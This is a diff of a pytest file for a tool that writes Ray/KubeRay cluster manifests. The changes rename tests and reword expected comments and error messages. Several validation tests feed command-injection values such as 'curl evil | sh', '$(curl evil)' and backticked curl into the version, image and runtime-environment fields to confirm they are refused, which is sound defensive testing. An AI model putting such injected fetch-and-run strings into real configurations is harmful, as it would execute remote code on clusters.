@@ -1,4 +1,4 @@
-"""What stands in the files that are written for a planned cluster."""
+"""The content of written files."""
 
 import pytest
 import yaml
@@ -32,39 +32,38 @@ def pod(node_type, **options):
     return group(node_type, **options)["template"]["spec"]
 
 
-def test_the_text_is_as_people_write_it():
+def test_the_manifest_of_a_small_cluster():
     text = write_cluster(a_design(reasons=("12 trials at once need 3 nodes.",)))
 
     assert text == EXPECTED
 
 
-def test_the_first_line_says_so_where_fewer_trials_run_at_once_than_wished():
+def test_the_first_line_states_how_many_trials_wait():
     text = write_cluster(a_design(num_trials=100))
 
     assert text.startswith(
-        "# Written by tune-policies: a Ray cluster for 100 trials, of which 12 run at once: the others wait.\n"
+        "# Written by tune-policies: a Ray cluster for 100 trials (12 run at once, the others wait).\n"
     )
 
 
 EXPECTED = """\
 # Written by tune-policies: a Ray cluster for 12 trials.
 # 12 trials at once need 3 nodes.
-# A pod asks for all CPUs and all memory of its node type. If Kubernetes has less allocatable on the machine, the pod
-#   waits indefinitely.
-# A pod waits until Kubernetes has a node for it. With N as maxReplicas of a group: create a node pool for each group
+# A pod requests all CPUs and all memory of its node type. It stays pending indefinitely if less is allocatable on the
+#   machine.
+# Pods stay pending until Kubernetes adds nodes. With N as maxReplicas of a group: create a node pool for each group
 #   (gcloud container node-pools create POOL --enable-autoscaling --total-min-nodes 0 --total-max-nodes N …), or turn on
 #   node auto-provisioning.
-# Ray's images have neither tune-policies nor a framework such as torch: name an image that has both, or let your job's
-#   runtime environment bring them.
-# Pods without GPUs keep off nodes with GPUs, or they would take the room of workers there: where all your nodes have
-#   GPUs, take the affinity out.
-# Nodes with GPUs are selected by the labels of platform 'gke': on another, name that one.
-# Optional fields stand behind #: fill in those that you need, in each group.
+# Ray's images contain neither tune-policies nor a framework such as torch: use an image that contains both, or install
+#   them with your job's runtime environment.
+# An affinity prevents pods without GPUs from occupying nodes with GPUs: remove it if all your nodes have GPUs.
+# Nodes with GPUs are selected by the labels of platform 'gke': set yours if it differs.
+# Optional fields are commented out: complete those that you need, in each group.
 apiVersion: ray.io/v1
 kind: RayCluster
 metadata:
   # labels: {kueue.x-k8s.io/queue-name: trials}
-  # annotations: {kueue.x-k8s.io/elastic-job: "true"}  # or Kueue takes no cluster with an autoscaler
+  # annotations: {kueue.x-k8s.io/elastic-job: "true"}  # required by Kueue for clusters with an autoscaler
   name: tune
 spec:
   rayVersion: "2.60.0"
@@ -81,7 +80,7 @@ spec:
           cluster-autoscaler.kubernetes.io/safe-to-evict: "false"
           karpenter.sh/do-not-disrupt: "true"
       spec:
-        # serviceAccountName: tune  # one that there is, and that may read the data and write the results
+        # serviceAccountName: tune  # an existing account that can read the data and write the results
         # priorityClassName: batch
         restartPolicy: Never
         affinity:
@@ -108,7 +107,7 @@ spec:
               memory: "8Gi"
               ephemeral-storage: "10Gi"
           volumeMounts:
-          # - {name: results, mountPath: /mnt/results}  # storage_path of the runs; with a bucket there is no need
+          # - {name: results, mountPath: /mnt/results}  # storage_path of the runs, unless it is in a bucket
           - name: shared-memory
             mountPath: /dev/shm
         volumes:
@@ -133,7 +132,7 @@ spec:
           cluster-autoscaler.kubernetes.io/safe-to-evict: "false"
           karpenter.sh/do-not-disrupt: "true"
       spec:
-        # serviceAccountName: tune  # one that there is, and that may read the data and write the results
+        # serviceAccountName: tune  # an existing account that can read the data and write the results
         # priorityClassName: batch
         restartPolicy: Never
         nodeSelector:
@@ -158,7 +157,7 @@ spec:
               nvidia.com/gpu: "1"
               ephemeral-storage: "10Gi"
           volumeMounts:
-          # - {name: results, mountPath: /mnt/results}  # storage_path of the runs; with a bucket there is no need
+          # - {name: results, mountPath: /mnt/results}  # storage_path of the runs, unless it is in a bucket
           - name: shared-memory
             mountPath: /dev/shm
         volumes:
@@ -176,7 +175,7 @@ def test_reasons_of_any_text_stay_comments():
     assert yaml.safe_load(text)["kind"] == "RayCluster"
 
 
-def test_a_job_starts_the_cluster_and_ends_it():
+def test_a_job_contains_its_cluster():
     job = spec(a_design(), job="python train.py", image="me/tune:1")
 
     assert (job["entrypoint"], job["shutdownAfterJobFinishes"]) == ("python train.py", True)
@@ -185,13 +184,13 @@ def test_a_job_starts_the_cluster_and_ends_it():
 
 
 @pytest.mark.parametrize("job", [None, "python train.py"])
-def test_who_starts_a_job_is_told_to_keep_its_results_elsewhere(job):
+def test_a_comment_of_a_job_recommends_external_storage(job):
     text = write_cluster(a_design(), WriteOptions(job=job, image="me/ray:1"))
 
-    assert ("# Nodes and their files go when the job has ended" in text) == (job is not None)
+    assert ("# Nodes and their files are deleted after the job" in text) == (job is not None)
 
 
-def test_a_job_brings_its_code_and_packages_by_its_runtime_environment():
+def test_the_runtime_environment_of_a_job_is_written():
     environment = {"working_dir": "s3://bucket/code.zip", "pip": ["tune-policies", "torch==2.13.0"]}
 
     job = spec(a_design(), job="python train.py", runtime_env=environment)
@@ -199,7 +198,7 @@ def test_a_job_brings_its_code_and_packages_by_its_runtime_environment():
     assert yaml.safe_load(job["runtimeEnvYAML"]) == environment
 
 
-def test_a_manifest_names_its_namespace_where_one_is_given():
+def test_the_namespace_is_optional():
     written = [
         yaml.safe_load(write_cluster(a_design(), WriteOptions(namespace=namespace)))["metadata"]
         for namespace in (None, "ml")
@@ -222,7 +221,7 @@ INTEL = gpu_type(name="intel", accelerator_type="Intel-GPU-Max-1550")
     ],
     ids=["beside NVIDIA's GPUs", "of another vendor beside them", "where there are none", "beside parts of them"],
 )
-def test_pods_without_nvidias_gpus_are_shown_none_of_them(node_types, variables):
+def test_nvidia_gpus_are_hidden_from_pods_without_them(node_types, variables):
     written = spec(a_design(*node_types))
 
     groups = [written["headGroupSpec"], *written["workerGroupSpecs"]]
@@ -239,7 +238,7 @@ def test_pods_without_nvidias_gpus_are_shown_none_of_them(node_types, variables)
         ("gpu-operator", "nvidia.com/gpu.present"),
     ],
 )
-def test_the_head_and_pods_without_devices_keep_off_nodes_with_gpus(platform, label):
+def test_pods_without_devices_do_not_run_on_nodes_with_gpus(platform, label):
     plan = a_design(cpu_type(), gpu_type(), cpu_type(name="mine", node_selector={"pool": "a"}))
     written = spec(plan, platform=platform)
 
@@ -258,13 +257,13 @@ def test_without_known_gpu_nodes_the_head_runs_anywhere(node_type, platform):
 
 
 @given(st.text() | st.text(alphabet="a \n\t\r#:-'\"\u2028\x85"))
-def test_any_command_is_read_as_it_was_given(command):
+def test_any_command_of_a_job_round_trips(command):
     if command:
         assert spec(a_design(), job=command, image="me/ray:1")["entrypoint"] == command
 
 
 @pytest.mark.parametrize("form", FORMATS)
-def test_room_to_fill_in_stands_as_comments_that_are_yaml(form):
+def test_optional_fields_are_comments_with_valid_yaml(form):
     text = write_cluster(a_design(), WriteOptions(format=form))
 
     filled = filled_in(text)
@@ -277,7 +276,7 @@ def test_room_to_fill_in_stands_as_comments_that_are_yaml(form):
     assert all(name in str(yaml.safe_load(filled)) for name in named[form])
 
 
-def test_room_stands_in_the_head_and_in_every_group():
+def test_the_head_and_every_group_have_optional_fields():
     text = write_cluster(a_design(cpu_type(), gpu_type()))
 
     assert text.count("# serviceAccountName") == 3
@@ -324,7 +323,7 @@ def test_room_stands_in_the_head_and_in_every_group():
         "TPU",
     ],
 )
-def test_ray_is_told_what_it_does_not_read_from_the_limits(fields, key, told):
+def test_amounts_that_ray_ignores_in_limits_are_group_resources(fields, key, told):
     written = group(cpu_type(**fields))
     resources = written["template"]["spec"]["containers"][0]["resources"]
 
@@ -333,7 +332,7 @@ def test_ray_is_told_what_it_does_not_read_from_the_limits(fields, key, told):
     assert resources["requests"] == resources["limits"] | {"ephemeral-storage": "10Gi"}
 
 
-def test_an_older_ray_is_told_by_start_parameters():
+def test_an_older_ray_gets_amounts_as_start_parameters():
     """Ray 2.50 does not read the field ``resources``; both at once KubeRay refuses."""
     written = group(gpu_type(device_key="nvidia.com/mig-1g.10gb"), ray_version="2.50.1")
 
@@ -341,7 +340,7 @@ def test_an_older_ray_is_told_by_start_parameters():
     assert "resources" not in written
 
 
-def test_on_aks_pods_with_gpus_tolerate_the_taint_that_azure_recommends():
+def test_pods_with_gpus_tolerate_azures_recommended_taint_on_aks():
     tolerations = pod(gpu_type(), platform="aks")["tolerations"]
 
     assert tolerations[1:] == [{"key": "sku", "operator": "Equal", "value": "gpu", "effect": "NoSchedule"}]
@@ -358,7 +357,7 @@ def test_on_aks_pods_with_gpus_tolerate_the_taint_that_azure_recommends():
         (None, "an autoscaler of nodes"),
     ],
 )
-def test_a_comment_says_how_the_platform_adds_nodes(platform, says):
+def test_a_comment_explains_how_the_platform_adds_nodes(platform, says):
     text = write_cluster(a_design(), WriteOptions(platform=platform)).replace("\n#  ", "")
 
     assert says in text
@@ -383,7 +382,7 @@ def test_a_head_with_gpus_is_written_as_a_group_with_gpus():
     assert "affinity" not in head["template"]["spec"]
 
 
-def test_a_slice_is_a_replica():
+def test_a_replica_is_a_slice():
     tpu = cpu_type(name="tpu", custom={"TPU": 4}, accelerator_type="TPU-V6E", topology="4x4")
     plan = a_design(groups=(DesignedGroup(node_type=tpu, min_nodes=4, max_nodes=16, num_hosts=4),))
 
@@ -393,7 +392,7 @@ def test_a_slice_is_a_replica():
     assert numbers == [1, 1, 4, 4]
 
 
-def test_a_group_starts_with_the_nodes_that_are_always_there():
+def test_a_group_starts_with_its_minimum():
     plan = a_design(groups=(DesignedGroup(node_type=gpu_type(), min_nodes=2, max_nodes=3),))
 
     assert spec(plan)["workerGroupSpecs"][0]["replicas"] == 2
@@ -422,7 +421,7 @@ def test_nodes_are_selected_by_the_labels_of_their_platform(platform, fields, se
     assert type_selector(gpu_type(**fields), platform) == selector
 
 
-def test_what_the_user_selects_and_tolerates_stands_beside_what_is_usual():
+def test_selectors_and_tolerations_of_the_user_are_added():
     spot = Toleration(key="spot", operator="Equal", value="yes", effect=None)
 
     written = pod(gpu_type(node_selector={"pool": "a"}, tolerations=(spot,)))
@@ -439,7 +438,7 @@ def test_memory_is_written_to_the_byte(memory):
     assert int(written.rstrip("GMKi")) * units.get(written[-2:], 1) == memory
 
 
-def test_each_family_has_its_row():
+def test_there_is_a_device_plugin_for_each_family():
     assert [plugin.family for plugin in DEVICE_PLUGINS] == [str(family) for family in FAMILIES]
 
 
@@ -454,39 +453,43 @@ NO_KEY = cpu_type(custom={"MBLT": 1})
         (
             a_design(name="t" * 48),
             {"job": "python x.py", "image": "me/ray:1"},
-            "48 characters, and a RayJob's may have 47",
+            "48 characters, but that of a RayJob can have at most 47",
         ),
-        (a_design(gpu_type(name="headgroup")), {}, "'headgroup' comes twice"),
-        (a_design(gpu_type(), gpu_type()), {"format": "cluster-yaml"}, "'l4' comes twice"),
-        (a_design(NO_KEY), {}, "name the key of your cluster as device_key"),
+        (a_design(gpu_type(name="headgroup")), {}, "'headgroup' is used twice"),
+        (a_design(gpu_type(), gpu_type()), {"format": "cluster-yaml"}, "'l4' is used twice"),
+        (a_design(NO_KEY), {}, "set device_key to that of your cluster"),
         (
             a_design(gpu_type(device_key="amd.com/gpu")),
             {},
             "has devices of NVIDIA GPU, but its device_key 'amd.com/gpu'",
         ),
-        (a_design(gpu_type(device_key="google.com/tpu")), {}, "counts those of Google TPU"),
-        (a_design(TPU_V2), {}, "knows TPU-V4, TPU-V5P"),
+        (a_design(gpu_type(device_key="google.com/tpu")), {}, "is for devices of Google TPU"),
+        (a_design(TPU_V2), {}, "only supports TPU-V4, TPU-V5P"),
         (a_design(cpu_type(custom={"TPU": 4})), {}, "TPUs of any type"),
         (
             a_design(cpu_type(custom={"TPU": 2}, accelerator_type="TPU-V6E")),
             {},
-            "one host with 2 chips; name the topology",
+            "one host with 2 chips: set the topology",
         ),
-        (a_design(cpu_type(custom={"vgpu": 2})), {}, "would take the resource 'vgpu' for Ray's own"),
-        (a_design(TPU_V7), {"ray_version": "2.50.0"}, "fails at a group of TPU-V7X, as 'cpu' is: take a newer Ray"),
-        (a_design(trials=TRIALS.on_nodes({"zone": "eu"})), {"ray_version": "2.50.0"}, "take Ray 2.51 or newer"),
+        (a_design(cpu_type(custom={"vgpu": 2})), {}, "would interpret the custom resource 'vgpu' as Ray's own"),
+        (
+            a_design(TPU_V7),
+            {"ray_version": "2.50.0"},
+            "the group 'cpu' has TPU-V7X, which the autoscaler of Ray 2.50.0 does not support",
+        ),
+        (a_design(trials=TRIALS.on_nodes({"zone": "eu"})), {"ray_version": "2.50.0"}, "use Ray 2.51 or newer"),
     ],
 )
-def test_what_could_not_run_is_refused(plan, options, says):
+def test_a_cluster_that_cannot_run_is_refused(plan, options, says):
     with pytest.raises(InvalidResourcesError, match=says):
         write_cluster(plan, WriteOptions(**options))
 
 
 @pytest.mark.parametrize(
     ("form", "says"),
-    [("kuberay", "there cannot be 3"), ("cluster-yaml", "launcher does not do")],
+    [("kuberay", "cannot have 3 nodes: use a multiple of 2"), ("cluster-yaml", "launcher does not support")],
 )
-def test_nodes_that_come_several_at_once_come_in_multiples_and_only_on_kubernetes(form, says):
+def test_slices_of_several_hosts_are_whole_and_require_kubernetes(form, says):
     plan = a_design(groups=(DesignedGroup(node_type=gpu_type(), max_nodes=3, num_hosts=2),))
 
     with pytest.raises(InvalidResourcesError, match=says):
@@ -496,29 +499,29 @@ def test_nodes_that_come_several_at_once_come_in_multiples_and_only_on_kubernete
 @pytest.mark.parametrize(
     ("fields", "says"),
     [
-        ({"ray_version": "latest"}, "ray_version must be a version in full, such as 2.60.0"),
-        ({"ray_version": "2.60"}, "in full"),
-        ({"ray_version": "2.44.1"}, "2.50.0 or newer, as plans need it, got 2.44.1"),
-        ({"ray_version": "2.60.0\n"}, "in full"),
-        ({"ray_version": '2.60.0" ; curl evil | sh ; "'}, "in full"),
-        ({"ray_version": "\uff12.60.0"}, "in full"),
-        ({"format": "cluster-yaml", "job": "python x.py"}, "a job is written as format 'kuberay' only"),
-        ({"format": "cluster-yaml", "namespace": "ml"}, "a namespace is written as format 'kuberay' only"),
-        ({"namespace": "Ml\n"}, "namespace 'Ml.n' must have small letters"),
-        ({"job": "python x.py"}, "name an image that has both, or a runtime environment"),
-        ({"runtime_env": {"pip": ["torch"]}}, "a runtime environment is a job's"),
-        ({"job": "x", "runtime_env": {"working_dir": "."}}, "'.', which is not on the cluster: pack it"),
-        ({"job": "x", "runtime_env": {"py_modules": ["my_module"]}}, "'my_module', which is not on the cluster"),
-        ({"job": "x", "runtime_env": {"env_vars": {"A": "$(curl evil)"}}}, "KubeRay's shell would run"),
-        ({"job": "x", "runtime_env": {"pip": ["`curl evil`"]}}, "KubeRay's shell would run"),
+        ({"ray_version": "latest"}, "ray_version must be a full version such as 2.60.0"),
+        ({"ray_version": "2.60"}, "a full version"),
+        ({"ray_version": "2.44.1"}, "2.50.0 or newer, got 2.44.1"),
+        ({"ray_version": "2.60.0\n"}, "a full version"),
+        ({"ray_version": '2.60.0" ; curl evil | sh ; "'}, "a full version"),
+        ({"ray_version": "\uff12.60.0"}, "a full version"),
+        ({"format": "cluster-yaml", "job": "python x.py"}, "job requires format 'kuberay'"),
+        ({"format": "cluster-yaml", "namespace": "ml"}, "namespace requires format 'kuberay'"),
+        ({"namespace": "Ml\n"}, "namespace 'Ml.n' is not valid: use at most 63"),
+        ({"job": "python x.py"}, "set image, or runtime_env"),
+        ({"runtime_env": {"pip": ["torch"]}}, "runtime_env requires a job"),
+        ({"job": "x", "runtime_env": {"working_dir": "."}}, "'.', which the cluster cannot read"),
+        ({"job": "x", "runtime_env": {"py_modules": ["my_module"]}}, "'my_module', which the cluster cannot read"),
+        ({"job": "x", "runtime_env": {"env_vars": {"A": "$(curl evil)"}}}, "KubeRay's shell interprets"),
+        ({"job": "x", "runtime_env": {"pip": ["`curl evil`"]}}, "KubeRay's shell interprets"),
         ({"image": ""}, "image"),
-        ({"image": "me/ray:1; curl evil | sh"}, "does not name a container image"),
-        ({"image": "me/ray:1\n"}, "does not name a container image"),
+        ({"image": "me/ray:1; curl evil | sh"}, "is not a container image"),
+        ({"image": "me/ray:1\n"}, "is not a container image"),
         ({"platform": "iks"}, "platform"),
-        ({"num_gpus": True, "format": "cluster-yaml"}, "states the GPUs of each node anyway"),
+        ({"num_gpus": True, "format": "cluster-yaml"}, "always contains the GPUs"),
     ],
 )
-def test_wrong_options_are_named(fields, says):
+def test_invalid_options_are_refused(fields, says):
     with pytest.raises(InvalidResourcesError, match=says):
         WriteOptions(**fields)
 
@@ -539,17 +542,17 @@ def test_the_launcher_installs_the_same_ray_or_runs_the_image():
         pytest.param(gpu_type(), {}, False, id="NVIDIA's GPUs"),
     ],
 )
-def test_devices_that_rays_images_cannot_use_are_told(node_type, options, expected):
+def test_a_comment_names_devices_without_software_in_rays_images(node_type, options, expected):
     text = write_cluster(a_design(node_type), WriteOptions(**options))
 
-    assert ("# Ray's images have no software for Intel Gaudi: name an image that has it." in text) == expected
+    assert ("# Ray's images have no software for Intel Gaudi: use an image that contains it." in text) == expected
 
 
 @pytest.mark.parametrize("image", [None, "me/ray:1"])
-def test_what_rays_own_image_lacks_is_told(image):
+def test_a_comment_explains_what_rays_image_lacks(image):
     text = write_cluster(a_design(), WriteOptions(image=image))
 
-    assert ("# Ray's images have neither tune-policies nor a framework" in text) == (image is None)
+    assert ("# Ray's images contain neither tune-policies nor a framework" in text) == (image is None)
 
 
 @pytest.mark.parametrize(
@@ -559,7 +562,7 @@ def test_what_rays_own_image_lacks_is_told(image):
         pytest.param(({"pool": "a"}, {"pool": "b"}), False, id="told apart by the user's labels"),
     ],
 )
-def test_groups_that_select_the_same_nodes_are_told(labels, expected):
+def test_a_comment_names_groups_that_select_the_same_nodes(labels, expected):
     large = gpu_type(name="l4-4", gpus=4, node_selector=labels[1])
 
     text = write_cluster(a_design(gpu_type(node_selector=labels[0]), large))
@@ -577,7 +580,7 @@ def test_groups_that_select_the_same_nodes_are_told(labels, expected):
         pytest.param({"accelerator_type": None}, "gke", False, id="GPUs of any type"),
     ],
 )
-def test_a_device_type_that_kubernetes_cannot_tell_is_said(fields, platform, expected):
+def test_a_comment_names_device_types_without_a_label(fields, platform, expected):
     text = write_cluster(a_design(gpu_type(**fields)), WriteOptions(platform=platform))
 
-    assert ("# Nothing tells Kubernetes which nodes have L4" in text) == expected
+    assert ("# No label selects the nodes with L4" in text) == expected
